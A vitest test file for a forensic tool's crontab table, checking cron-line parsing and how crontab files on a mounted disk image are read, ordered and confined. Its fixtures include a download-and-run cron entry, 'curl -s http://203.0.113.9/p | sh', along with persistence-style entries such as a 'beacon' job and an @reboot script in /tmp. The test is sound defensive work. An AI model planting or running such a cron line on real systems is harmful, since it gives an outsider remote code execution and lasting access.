import { mkdirSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { fromText } from '../../../../src/engine/builtin/tables/files/bytes.js';
import { parseCronLine } from '../../../../src/engine/builtin/tables/files/crontab.js';
import { imageContext, link, put, rowsOf, scratch } from './helpers.js';

const { dir, cleanup } = scratch('osq-cron-');
afterAll(cleanup);

const NULLS = { event: null, minute: null, hour: null, day_of_month: null, month: null, day_of_week: null };

describe('crontab line parsing', () => {
  it('splits schedule fields and joins the command with single spaces', () => {
    expect(parseCronLine(fromText('*/5\t1-3  * jan,feb   mon-fri   /usr/bin/run   --flag  x'))).toEqual({
      ...NULLS,
      minute: '*/5',
      hour: '1-3',
      day_of_month: '*',
      month: 'jan,feb',
      day_of_week: 'mon-fri',
      command: '/usr/bin/run --flag x',
    });
  });

  it('takes an @ first field as the event and leaves the schedule NULL', () => {
    expect(parseCronLine(fromText('@reboot root /opt/x.sh'))).toEqual({ ...NULLS, event: '@reboot', command: 'root /opt/x.sh' });
  });

  it('drops lines without a command', () => {
    for (const line of ['SHELL=/bin/sh', 'MAILTO = root', '@reboot', '* * * * *']) {
      expect(parseCronLine(fromText(line))).toBeNull();
    }
  });
});

describe('crontab on a mounted image', () => {
  const root = `${dir}/img`;
  put(root, 'etc/crontab', [
    'SHELL=/bin/sh',
    'PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin',
    '',
    '# m h dom mon dow user  command',
    '17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly',
    '   @hourly   root   /usr/local/bin/beacon  ',
    '\t\t',
    '0 0 1 */2 7 root test -x /usr/sbin/anacron || ( cd / && run-parts /etc/cron.daily )',
  ].join('\n'));
  put(root, 'etc/cron.d/php', '09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\r\n');
  put(root, 'etc/cron.d/.placeholder', '* * * * * root /hidden/should/not/show\n');
  put(root, 'etc/cron.d/a-first', '# only a comment\n@reboot nobody /tmp/.x/y\n');
  mkdirSync(`${root}/etc/cron.d/subdir/`, { recursive: true });
  put(root, 'etc/cron.d/subdir/nested', '* * * * * root /nested/not/read\n');
  put(root, 'var/spool/cron/crontabs/alice', '# DO NOT EDIT\nMAILTO=""\n*/10 * * * * curl -s http://203.0.113.9/p | sh\n');
  put(root, 'var/spool/cron/crontabs/.hidden', '* * * * * /also/hidden\n');
  // An absolute link out of the image must resolve inside it (a missing file here: no rows, no error).
  link(root, 'var/spool/cron/crontabs/bob', put(dir, 'outside/cron', '* * * * * LEAKED from this machine\n'));

  it('reads /etc/crontab first, then each directory sorted, skipping hidden files and subdirectories', async () => {
    const rows = await rowsOf('crontab', imageContext(root));
    expect(rows).toEqual([
      { ...NULLS, minute: '17', hour: '*', day_of_month: '*', month: '*', day_of_week: '*', command: 'root cd / && run-parts --report /etc/cron.hourly', path: '/etc/crontab' },
      { ...NULLS, event: '@hourly', command: 'root /usr/local/bin/beacon', path: '/etc/crontab' },
      { ...NULLS, minute: '0', hour: '0', day_of_month: '1', month: '*/2', day_of_week: '7', command: 'root test -x /usr/sbin/anacron || ( cd / && run-parts /etc/cron.daily )', path: '/etc/crontab' },
      { ...NULLS, event: '@reboot', command: 'nobody /tmp/.x/y', path: '/etc/cron.d/a-first' },
      { ...NULLS, minute: '09,39', hour: '*', day_of_month: '*', month: '*', day_of_week: '*', command: 'root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean', path: '/etc/cron.d/php' },
      { ...NULLS, minute: '*/10', hour: '*', day_of_month: '*', month: '*', day_of_week: '*', command: 'curl -s http://203.0.113.9/p | sh', path: '/var/spool/cron/crontabs/alice' },
    ]);
  });

  it('names files through the real directory when a cron directory is a link', async () => {
    const other = `${dir}/img2`;
    put(other, 'srv/cron/job', '1 2 3 4 5 /bin/true\n');
    link(other, 'etc/cron.d', '/srv/cron');
    const rows = await rowsOf('crontab', imageContext(other));
    expect(rows.map((r) => r.path)).toEqual(['/srv/cron/job']);
  });
});
